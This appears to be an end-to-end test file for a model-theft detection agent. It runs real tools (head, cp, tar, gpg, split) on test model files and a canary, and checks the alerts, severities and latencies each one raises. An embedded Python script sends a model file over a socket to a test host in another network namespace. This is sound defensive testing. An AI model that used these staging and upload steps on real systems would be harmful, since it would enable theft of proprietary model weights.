"""Real exfiltration against the running agent (root): real tools on real files, each in its own session
(process tree), and the alert each one must raise. Prints the matrix scenario -> rule, severity, latency.

One agent serves every scenario (starting it is the slow part); scenarios are independent because each
runs in a new session. Benign work (a safetensors load that stays open) must raise nothing.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tests.agent.cli.helpers import wait_for, write_config
from tests.agent.cli.test_agent_e2e import RunningAgent
from tests.agent.sensors.conftest import PYTHON, require_fanotify, require_proc_connector
from tests.agent.sensors.test_agent_activity import Agent
from tests.agent.sensors.test_network import namespaces  # noqa: F401 - the fixture
from tests.conftest import write_safetensors
from weightwarden.agent import canary
from weightwarden.agent.events import parse_time

pytestmark = [pytest.mark.e2e, pytest.mark.root]

MATRIX: list[tuple[str, str, int, float]] = []


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    if os.geteuid() != 0:
        pytest.skip("the scenarios run the agent in system mode, as root")
    require_fanotify()
    require_proc_connector()
    root = tmp_path_factory.mktemp("scenarios")
    paths = {name: root / name for name in ("models", "out", "data")}
    for path in paths.values():
        path.mkdir()
    model = write_safetensors(paths["models"] / "llama" / "model.safetensors", rows=12000, seed=7)
    decoy = canary.plant(str(paths["models"] / "internal-13b"), str(paths["data"]))
    shared = paths["models"] / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # a posture finding: anyone can replace a model here
    write_safetensors(shared / "adapter.safetensors", seed=8)
    config = write_config(root / "config.toml", data_dir=paths["data"], protected=[paths["models"]],
                          watched=[paths["out"]])
    with config.open("a") as handle:
        handle.write("\n[sensors]\nstatus_seconds = 0.5\nnetwork_poll_seconds = 0.2\n")
    agent = Agent(config, dict(os.environ))
    try:
        wait_for(lambda: "scan-finished" in agent.actions(), timeout=60, what="the initial inventory")
        wait_for(lambda: _marked(agent, 3), timeout=30, what="the models to be inventoried")
        yield {"agent": agent, "model": model, "canary": Path(decoy.path), **paths}
    finally:
        if agent.process.poll() is None:
            agent.stop(signal.SIGKILL)
        print("\nscenario -> alert (rule, severity, latency from the end of the action)")
        for scenario, rule, severity, latency in MATRIX:
            print(f"  {scenario:34} {rule:28} {severity:>2}  {latency * 1000:7.0f} ms")


def _marked(agent: RunningAgent, count: int) -> bool:
    discovered = [e for e in agent.records("events") if e["event"]["action"] in ("model-discovered",
                                                                                   "model-created")]
    return len(discovered) >= count


def _run(*argv: str, **kwargs: Any) -> float:
    """Run one tool in its own session; the time it ended."""
    subprocess.run(argv, check=True, capture_output=True, timeout=60, start_new_session=True, **kwargs)
    return time.time()


def _expect(world: dict[str, Any], scenario: str, rule: str, ended: float,
            match: Callable[[dict[str, Any]], bool] = lambda a: True) -> dict[str, Any]:
    agent: RunningAgent = world["agent"]
    (alert, *_) = wait_for(lambda: [a for a in agent.records("alerts") if a["rule"] == rule and match(a)],
                           timeout=30, what=f"{rule} for {scenario}")
    latency = max(0.0, parse_time(alert["time"]).timestamp() - ended)
    MATRIX.append((scenario, rule, alert["severity"], latency))
    return alert


def test_posture_finding_for_a_world_writable_folder(world: dict[str, Any]) -> None:
    found = [e for e in world["agent"].records("events") if e["event"]["action"] == "posture-finding"]
    assert [(Path(e["file"]["path"]).name, e["details"]["finding"]) for e in found] == [
        ("adapter.safetensors", "model-in-world-writable-folder")]


def test_canary_opened_with_head(world: dict[str, Any]) -> None:
    ended = _run("head", "-c", "100", str(world["canary"]))
    alert = _expect(world, "head -c canary", "canary-model-accessed", ended)
    assert alert["severity"] == 10 and alert["process"]["name"] == "head"


def test_cp_to_a_temporary_folder(world: dict[str, Any]) -> None:
    ended = _run("cp", str(world["model"]), str(world["out"] / "copy.safetensors"))
    alert = _expect(world, "cp to /tmp", "model-copy", ended,
                    lambda a: a["destination"]["path"].endswith("copy.safetensors"))
    assert alert["severity"] == 6 and alert["destination"]["kind"] == "temporary"


def test_tar_czf_of_the_model_folder(world: dict[str, Any]) -> None:
    archive = world["out"] / "llama.tgz"
    ended = _run("tar", "czf", str(archive), "-C", str(world["models"]), "llama")
    alert = _expect(world, "tar czf", "model-staged-in-archive", ended)
    assert alert["evidence"]["lineage"] == {"read": str(world["model"]), "wrote": str(archive)}


def test_gpg_symmetric(world: dict[str, Any], tmp_path: Path) -> None:
    if shutil.which("gpg") is None:
        pytest.skip("gpg is not installed")
    out = world["out"] / "llama.gpg"
    ended = _run("gpg", "--homedir", str(tmp_path), "--batch", "--pinentry-mode", "loopback", "--passphrase", "x",
                 "--symmetric", "-o", str(out), str(world["model"]))
    alert = _expect(world, "gpg --symmetric", "model-staged-in-archive", ended,
                    lambda a: a["evidence"]["staging"]["tool"] == "gpg")
    assert alert["evidence"]["staging"]["output"] == str(out)


def test_split(world: dict[str, Any]) -> None:
    ended = _run("split", "-b", "1M", str(world["model"]), str(world["out"] / "part."))
    alert = _expect(world, "split -b 1M", "model-staged-in-archive", ended,
                    lambda a: a["evidence"]["staging"]["tool"] == "split")
    assert alert["evidence"]["staging"]["operation"] == "split"


UPLOAD = textwrap.dedent("""
    import socket, sys
    data = open(sys.argv[1], "rb").read()
    sock = socket.create_connection(("10.231.7.2", 9099), timeout=10)
    sock.sendall(data)
    print("sent", flush=True)
    sys.stdin.readline()
    sock.close()
""")
LISTEN = textwrap.dedent("""
    import socket
    server = socket.socket()
    server.bind(("10.231.7.2", 9099)); server.listen()
    print("listening", flush=True)
    conn, _ = server.accept()
    while conn.recv(1 << 16):
        pass
""")


def test_python_upload_to_another_namespace(world: dict[str, Any], namespaces: tuple[str, str]) -> None:  # noqa: F811
    client, server = namespaces
    listener = subprocess.Popen(["ip", "netns", "exec", server, PYTHON, "-c", LISTEN], stdout=subprocess.PIPE,
                                text=True)
    uploader = None
    try:
        assert listener.stdout is not None and listener.stdout.readline().strip() == "listening"
        uploader = subprocess.Popen(["ip", "netns", "exec", client, PYTHON, "-c", UPLOAD, str(world["model"])],
                                    stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, start_new_session=True)
        assert uploader.stdout is not None and uploader.stdout.readline().strip() == "sent"
        ended = time.time()
        agent: RunningAgent = world["agent"]
        wait_for(lambda: [e for e in agent.records("events") if e["event"]["action"] == "network-connection"
                          and e["process"] and e["process"]["pid"] == uploader.pid
                          and (e["details"].get("bytes_sent") or 0) > 0],
                 timeout=30, what="the upload's connection with its bytes")
        assert uploader.stdin is not None
        uploader.stdin.write("\n")
        uploader.stdin.flush()
        uploader.wait(timeout=10)
        alert = _expect(world, "python upload (netns)", "model-egress-budget", ended)
        assert alert["destination"]["address"] == "10.231.7.2"
        assert alert["evidence"]["progress"] >= 0.5 and alert["evidence"]["models"] == ["llama"]
    finally:
        for process in (uploader, listener):
            if process is not None and process.poll() is None:
                process.kill()
            if process is not None:
                process.wait(timeout=10)
                for stream in (process.stdin, process.stdout):
                    if stream is not None:
                        stream.close()


BENIGN = textwrap.dedent("""
    import sys
    from safetensors.numpy import load_file
    tensors = load_file(sys.argv[1])
    print(sum(t.size for t in tensors.values()), flush=True)
    sys.stdin.readline()
""")


def test_benign_safetensors_load_raises_nothing(world: dict[str, Any]) -> None:
    agent: RunningAgent = world["agent"]
    loader = subprocess.Popen([sys.executable, "-c", BENIGN, str(world["model"])], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True, start_new_session=True)
    try:
        assert loader.stdout is not None and int(loader.stdout.readline()) > 0
        wait_for(lambda: [e for e in agent.records("events") if e["event"]["action"] in ("model-read", "model-held")
                          and e["process"] and e["process"]["pid"] == loader.pid]
                 or [e for e in agent.records("events") if e["event"]["action"] == "model-opened"
                     and e["process"] and e["process"]["pid"] == loader.pid],
                 timeout=30, what="the loader's access to be recorded")
    finally:
        assert loader.stdin is not None
        loader.stdin.write("\n")
        loader.stdin.close()
        loader.wait(timeout=10)
        assert loader.stdout is not None
        loader.stdout.close()
    # The alerts of this session, if any, are raised synchronously with its events, already recorded above.
    own = [a for a in agent.records("alerts") if a.get("process") and a["process"].get("pid") == loader.pid]
    assert own == []
    assert all(isinstance(parse_time(a["time"]), datetime) for a in agent.records("alerts"))
